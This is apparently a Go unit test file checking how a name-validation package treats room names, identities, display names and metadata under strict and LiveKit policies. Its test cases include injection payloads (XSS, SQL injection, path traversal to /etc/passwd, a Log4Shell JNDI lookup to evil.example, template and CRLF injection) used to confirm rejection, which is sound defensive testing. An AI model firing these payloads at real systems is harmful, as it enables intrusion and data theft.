package names

import (
	"strings"
	"testing"
)

func TestNamesUnderBothPolicies(t *testing.T) {
	cases := []struct {
		in         string
		strict, lk bool // want ok
	}{
		{"test-room", true, true},
		{"a.b:c@d=e+f_g-h", true, true},
		{strings.Repeat("a", 128), true, true},
		{strings.Repeat("a", 129), false, true},
		{strings.Repeat("a", 200), false, true},
		{strings.Repeat("a", 256), false, true},
		{strings.Repeat("a", 257), false, false},
		{"", false, false},
		{"   ", false, false},
		{"<script>alert(1)</script>", false, true},
		{`"><img src=x onerror=alert(1)>`, false, true},
		{"' OR '1'='1", false, true},
		{"../../etc/passwd", false, true},
		{"${jndi:ldap://evil.example/a}", false, true},
		{"{{7*7}}", false, true},
		{"alice\r\nX-Injected: 1", false, false},
		{"room\x00x", false, false},
		{"a\u202Eb", false, false},
		{"a\u200Bb", false, false},
		{"a\uFFFDb", false, false},
		{"a\xffb", false, false},
		{"会议室", false, true},
		{"😀", false, true},
	}
	for _, tc := range cases {
		if err := Strict.Room("roomName", tc.in); (err == nil) != tc.strict {
			t.Errorf("strict %q: err=%v, want ok=%v", tc.in, err, tc.strict)
		}
		if err := LiveKit.Identity("participantIdentity", tc.in); (err == nil) != tc.lk {
			t.Errorf("livekit %q: err=%v, want ok=%v", tc.in, err, tc.lk)
		}
	}
}

func TestErrorNamesFieldNotValue(t *testing.T) {
	err := Strict.Room("roomName", "<script>")
	if err == nil || !strings.HasPrefix(err.Error(), "roomName ") || strings.Contains(err.Error(), "<script>") {
		t.Fatalf("got %v", err)
	}
}

func TestDisplayName(t *testing.T) {
	for _, tc := range []struct {
		in string
		ok bool
	}{
		{"Zoë", true}, {"😀", true}, {"Alice Smith", true}, {"", true},
		{strings.Repeat("é", 128), true}, {strings.Repeat("é", 129), false},
		{"a\nb", false}, {"a\u202Eb", false}, {"  ", false},
	} {
		if err := Strict.DisplayName("participantName", tc.in); (err == nil) != tc.ok {
			t.Errorf("%q: err=%v want ok=%v", tc.in, err, tc.ok)
		}
	}
}

func TestMetadata(t *testing.T) {
	if err := Strict.Metadata("metadata", "{\n \"a\": 1\n}"); err != nil {
		t.Fatal(err)
	}
	if err := Strict.Metadata("metadata", strings.Repeat("x", 513)); err == nil {
		t.Fatal("513 bytes accepted under strict")
	}
	if err := LiveKit.Metadata("metadata", strings.Repeat("x", 513)); err != nil {
		t.Fatal(err)
	}
	if err := Strict.Metadata("metadata", "a\x00"); err == nil {
		t.Fatal("NUL accepted")
	}
}

func TestParsePolicy(t *testing.T) {
	if p, err := ParsePolicy("LiveKit"); err != nil || p != LiveKit {
		t.Fatal(p, err)
	}
	if _, err := ParsePolicy("loose"); err == nil {
		t.Fatal("accepted loose")
	}
}
